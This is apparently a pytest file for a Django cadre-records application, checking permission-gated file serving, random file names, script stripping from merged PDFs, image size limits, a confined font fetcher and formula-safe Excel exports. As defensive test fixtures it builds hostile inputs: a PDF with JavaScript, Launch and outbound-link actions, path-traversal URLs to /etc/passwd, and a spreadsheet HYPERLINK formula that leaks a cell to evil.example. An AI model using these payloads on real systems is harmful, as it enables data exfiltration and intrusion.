"""Stored files and exports (issue 13): served only after the permission check, random names, no
active content in the case file, bounded images, a confined font fetcher, inert Excel cells, XML-safe LRMX."""

import hashlib
import importlib
import io
import re
import zipfile
from datetime import date

import pytest
from defusedxml.ElementTree import fromstring
from django.core.checks import run_checks
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import Resolver404, clear_url_caches, resolve, reverse
from openpyxl import load_workbook
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from selection import integrity
from selection.interchange import lrmx, xlsx
from selection.interchange.importing import import_lrmx_files
from selection.models import Cadre, Document, ExportJob, RecordEvent, Registration
from selection.pdf.case_file import render_case_file
from selection.pdf.render import LocalOnlyFetcher
from selection.services import documents
from selection.services.base import ServiceError

from . import test_pdf_builders as build
from .factories import CadreFactory
from .test_interchange_lrmx import jpeg, lrmx_file

RANDOM_PHOTO = re.compile(r"^photos/[0-9a-f]{32}\.jpg$")


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# ---- serving ---------------------------------------------------------------------------------------


def test_there_is_no_public_media_route_even_in_debug(settings):
    settings.DEBUG = True
    import config.urls

    try:
        importlib.reload(config.urls)
        clear_url_caches()
        with pytest.raises(Resolver404):
            resolve("/media/photos/330523198307160151.jpg")
    finally:
        settings.DEBUG = False
        importlib.reload(config.urls)
        clear_url_caches()


@pytest.fixture
def photographed(org):
    cadre = CadreFactory(organization=org)
    cadre.photo.save("photo.jpg", ContentFile(jpeg(40, 50)), save=True)
    return cadre


def test_the_photo_is_served_to_registry_readers_of_the_organization_only(
    client, photographed, hr, staff, outsider
):
    url = reverse("cadre_photo_file", args=[photographed.pk])
    client.force_login(hr)
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"] == "image/jpeg"
    assert _body(response).startswith(b"\xff\xd8")
    assert "no-store" in response["Cache-Control"]
    client.force_login(staff)
    assert client.get(url).status_code == 403
    client.force_login(outsider)
    assert client.get(url).status_code == 404
    page = client.get(reverse("cadre_detail", args=[photographed.pk]))
    assert page.status_code == 404


def test_the_cadre_page_shows_the_photo_through_the_view(client, photographed, hr):
    client.force_login(hr)
    page = client.get(reverse("cadre_detail", args=[photographed.pk])).content.decode()
    assert f'src="{reverse("cadre_photo_file", args=[photographed.pk])}"' in page
    assert "/media/" not in page


def test_nginx_sends_the_file_with_x_accel_redirect(client, photographed, hr, settings):
    settings.XUANBA_FILE_SERVER = "nginx"
    client.force_login(hr)
    response = client.get(reverse("cadre_photo_file", args=[photographed.pk]))
    assert response.status_code == 200
    assert response["X-Accel-Redirect"] == f"/protected-media/{photographed.photo.name}"
    assert response.content == b""
    assert "no-store" in response["Cache-Control"]


def test_apache_sends_the_file_with_x_sendfile(client, photographed, hr, settings):
    settings.XUANBA_FILE_SERVER = "apache"
    client.force_login(hr)
    response = client.get(reverse("cadre_photo_file", args=[photographed.pk]))
    assert response["X-Sendfile"] == photographed.photo.path


def test_stored_names_are_random_never_an_id_number(org, client, hr):
    import_lrmx_files([("a.lrmx", lrmx_file(ZhaoPian=_b64(jpeg(400, 500))))], org, by=hr)
    cadre = Cadre.objects.get(name="李丽娟")
    assert RANDOM_PHOTO.match(cadre.photo.name), cadre.photo.name
    assert cadre.id_number not in cadre.photo.name
    client.force_login(hr)
    upload = SimpleUploadedFile(f"{cadre.id_number}.jpg", jpeg(400, 500), content_type="image/jpeg")
    client.post(reverse("cadre_photo", args=[cadre.pk]), {"photo": upload})
    cadre.refresh_from_db()
    assert RANDOM_PHOTO.match(cadre.photo.name) and cadre.id_number not in cadre.photo.name


def _b64(data: bytes) -> str:
    import base64

    return base64.b64encode(data).decode()


# ---- attachments and the case file -----------------------------------------------------------------


def hostile_pdf() -> bytes:
    """One page with every kind of active content: open action, page and document scripts, links out."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(script)
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("x"), writer._add_object(script)])}
            )
        }
    )
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(script)})
    links = ArrayObject()
    for action in (
        {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("http://evil.example/")},
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")},
    ):
        links.append(
            writer._add_object(
                DictionaryObject(
                    {
                        NameObject("/Type"): NameObject("/Annot"),
                        NameObject("/Subtype"): NameObject("/Link"),
                        NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0)] * 2),
                        NameObject("/A"): DictionaryObject(action),
                    }
                )
            )
        )
    page[NameObject("/Annots")] = links
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


ACTIVE = (b"/JavaScript", b"/JS", b"/OpenAction", b"/Launch", b"/URI", b"/AA")


def test_the_case_file_merges_uploaded_pdfs_without_scripts_or_links_out(org, hr):
    data = hostile_pdf()
    assert all(marker in data for marker in ACTIVE)
    case = build.build_case(org, hr, candidates=1)
    material = Document(
        case=case,
        kind=Document.Kind.INSPECTION_MATERIAL,
        title="带脚本的材料",
        uploaded_by=hr,
        sha256=hashlib.sha256(data).hexdigest(),
    )
    material.file.save("material.pdf", ContentFile(data))
    pdf = render_case_file(case)
    found = [marker for marker in ACTIVE if marker in pdf]
    assert found == []
    reader = PdfReader(io.BytesIO(pdf))
    assert len(reader.pages) > 5  # the attachment's page is still in the file
    for page in reader.pages:
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A")
            assert action is None or action.get_object()["/S"] == "/GoTo"
    assert any(item.title == "封面及目录" for item in reader.outline if not isinstance(item, list))


def png_of(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, format="PNG")
    return out.getvalue()


def test_a_100_megapixel_attachment_is_refused_like_a_photo(org, hr):
    big = SimpleUploadedFile("扫描件.png", png_of(10_000, 10_000), content_type="image/png")
    with pytest.raises(ServiceError, match="像素过大"):
        documents.check_file(big)
    ordinary = SimpleUploadedFile("扫描件.png", png_of(2_000, 3_000), content_type="image/png")
    assert documents.check_file(ordinary)[0] == documents.PNG


# ---- the PDF renderer's fetcher --------------------------------------------------------------------


def test_the_font_fetcher_refuses_paths_that_climb_out_of_the_fonts_folder(settings, tmp_path):
    fonts = tmp_path / "fonts"
    fonts.mkdir()
    (fonts / "licensed.ttf").write_bytes(b"not really a font")
    settings.XUANBA_FONTS_DIR = fonts
    fetcher = LocalOnlyFetcher()
    for url in (
        f"{fonts.as_uri()}/../../../etc/passwd",
        f"{fonts.as_uri()}/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        f"{fonts.as_uri()}x/secret.ttf",  # a sibling folder sharing the prefix
        "file:///etc/passwd",
    ):
        with pytest.raises(ValueError, match="Refusing"):
            fetcher.fetch(url)
    fetched = fetcher.fetch(f"{fonts.as_uri()}/licensed.ttf")
    assert fetched.read() == b"not really a font"
    fetched.close()


# ---- exports ---------------------------------------------------------------------------------------


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'


def test_the_excel_export_never_writes_a_formula_from_a_cadre_field(org):
    cadre = CadreFactory(organization=org, expertise=FORMULA, health="+1", professional_title="@SUM(1)")
    CadreFactory(organization=org, native_place="-2+3", birthplace="安吉\x0b\x01县")
    data = xlsx.export_cadres(Cadre.objects.filter(organization=org).order_by("pk"))
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    book = load_workbook(io.BytesIO(data))
    values = [cell for row in book.worksheets[0].iter_rows(min_row=2) for cell in row if cell.value]
    hostile = {cell.value: cell for cell in values if isinstance(cell.value, str)}
    assert FORMULA in hostile and hostile[FORMULA].data_type == "s"
    assert all(hostile[v].quotePrefix for v in (FORMULA, "+1", "@SUM(1)", "-2+3"))
    assert "安吉县" in hostile
    assert cadre.expertise == FORMULA  # the export changed nothing stored


def test_lrmx_export_drops_characters_xml_cannot_hold(org):
    cadre = CadreFactory(
        organization=org, rewards_and_punishments="2019年\x01嘉奖\x0b一次\x1f", expertise="医保\ufffe"
    )
    root = fromstring(lrmx.export_lrmx(cadre, age_on=date(2026, 3, 1)))
    assert root.findtext("JiangChengQingKuang") == "2019年嘉奖一次"
    assert root.findtext("ShuXiZhuanYeYouHeZhuanChang") == "医保"


# ---- files stored before names were random -------------------------------------------------------------


def sha256_hex(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _stored_as(instance, field: str, name: str, data: bytes) -> str:
    """A file as an earlier version stored it: under a name the uploader or an ID number chose."""
    stored = default_storage.save(name, ContentFile(data))
    assert stored == name
    type(instance).objects.filter(pk=instance.pk).update(**{field: stored})
    return stored


def _old_files(org, hr):
    cadre = CadreFactory(organization=org)
    photo = _stored_as(cadre, "photo", f"photos/{cadre.id_number}.jpg", jpeg(40, 50))
    cadre.refresh_from_db()
    cadre.save()  # a past version (simple_history) citing the old name
    assert cadre.history.filter(photo=photo).exists()
    case = build.build_case(org, hr, candidates=1, stage="inspection", photo=False)
    data = b"%PDF-1.4 minutes of 2025\n%%EOF"
    document = Document.objects.create(
        case=case, kind=Document.Kind.OTHER, title="旧附件", uploaded_by=hr, sha256=sha256_hex(data)
    )
    attachment = _stored_as(document, "file", f"documents/2025/{cadre.name}{cadre.id_number}.pdf", data)
    return cadre, photo, document, attachment


def _names_in_use(cadre, document) -> tuple[str, str]:
    cadre.refresh_from_db()
    document.refresh_from_db()
    return cadre.photo.name, document.file.name


def test_rename_stored_files_gives_old_names_random_ones_and_keeps_the_record_valid(
    org, hr, django_capture_on_commit_callbacks
):
    cadre, photo, document, attachment = _old_files(org, hr)
    data = b"%PDF-1.4 approval form of 2025\n%%EOF"
    copy = Document.objects.create(
        case=document.case,
        kind=Document.Kind.OTHER,
        title="旧正式文本",
        uploaded_by=hr,
        sha256=sha256_hex(data),
    )
    _stored_as(copy, "file", "documents/2025/approval_form-1-2-0123456789abcdef.pdf", data)
    events = RecordEvent.objects.filter(case=document.case).count()
    assert [w.id for w in run_checks(databases=["default"])].count("selection.W003") == 1
    out = io.StringIO()
    with django_capture_on_commit_callbacks(execute=True):
        call_command("rename_stored_files", stdout=out)
    assert "已更名 3 个文件" in out.getvalue()
    assert RecordEvent.objects.filter(case=document.case).count() == events + 1  # one note per case
    assert cadre.id_number not in out.getvalue()  # the command never prints the old names
    new_photo, new_attachment = _names_in_use(cadre, document)
    assert RANDOM_PHOTO.match(new_photo), new_photo
    assert re.fullmatch(r"documents/\d{4}/[0-9a-f]{32}\.pdf", new_attachment), new_attachment
    assert not default_storage.exists(photo) and not default_storage.exists(attachment)
    assert not cadre.history.filter(photo=photo).exists()  # past versions cite the new name
    with default_storage.open(new_photo) as handle:
        assert handle.read() == jpeg(40, 50)
    assert document.intact  # same bytes, same SHA-256
    result = integrity.verify_case(document.case)
    assert result.ok and not result.bad_documents, result.message
    event = RecordEvent.objects.filter(case=document.case).order_by("-seq").first()
    assert event.action == "rename_stored_file"
    copy.refresh_from_db()
    assert event.payload["documents"] == [
        {"document": document.pk, "file": new_attachment, "sha256": document.sha256},
        {"document": copy.pk, "file": copy.file.name, "sha256": copy.sha256},
    ]
    assert "selection.W003" not in [w.id for w in run_checks(databases=["default"])]
    # Idempotent: a second run finds nothing to rename and changes nothing.
    again = io.StringIO()
    with django_capture_on_commit_callbacks(execute=True):
        call_command("rename_stored_files", stdout=again)
    assert "已更名 0 个文件" in again.getvalue()
    assert _names_in_use(cadre, document) == (new_photo, new_attachment)


def test_a_document_that_no_longer_matches_its_digest_keeps_its_name_for_the_auditor(
    org, hr, django_capture_on_commit_callbacks
):
    cadre, _photo, document, attachment = _old_files(org, hr)
    with default_storage.open(attachment, "wb") as handle:
        handle.write(b"%PDF-1.4 altered")
    out = io.StringIO()
    with pytest.raises(CommandError), django_capture_on_commit_callbacks(execute=True):
        call_command("rename_stored_files", stdout=out)
    assert "与归档时的摘要不符" in out.getvalue()
    new_photo, still = _names_in_use(cadre, document)
    assert still == attachment and default_storage.exists(attachment)
    assert RANDOM_PHOTO.match(new_photo)  # the other files are renamed all the same


def test_signed_forms_and_exports_are_stored_under_random_names(org, hr):
    job = ExportJob.objects.create(kind="case-file", organization=org, requested_by=hr)
    job.file.save(f"case-file-{job.pk}-0123456789abcdef-一批一档.pdf", ContentFile(b"%PDF-1.4"))
    assert re.fullmatch(r"exports/\d{4}/[0-9a-f]{32}\.pdf", job.file.name), job.file.name
    field = Registration._meta.get_field("signed_form")
    name = field.generate_filename(None, "张三330523199001011234.pdf")
    assert re.fullmatch(r"registrations/\d{4}/[0-9a-f]{32}\.pdf", name), name


def test_the_roster_workbook_never_writes_a_formula_from_a_cadre_field(org):
    from selection.roster import COLUMNS, render_roster_xlsx

    CadreFactory(organization=org, native_place=FORMULA, birthplace="@SUM(1)")
    columns = [c for c in COLUMNS if c.key in ("name", "native_place", "birthplace")]
    data = render_roster_xlsx(
        Cadre.objects.filter(organization=org), columns, title="干部花名册", on=date(2026, 11, 26)
    )
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    hostile = {c.value: c for c in cells if c.value in (FORMULA, "@SUM(1)")}
    assert set(hostile) == {FORMULA, "@SUM(1)"} and all(c.quotePrefix for c in hostile.values())
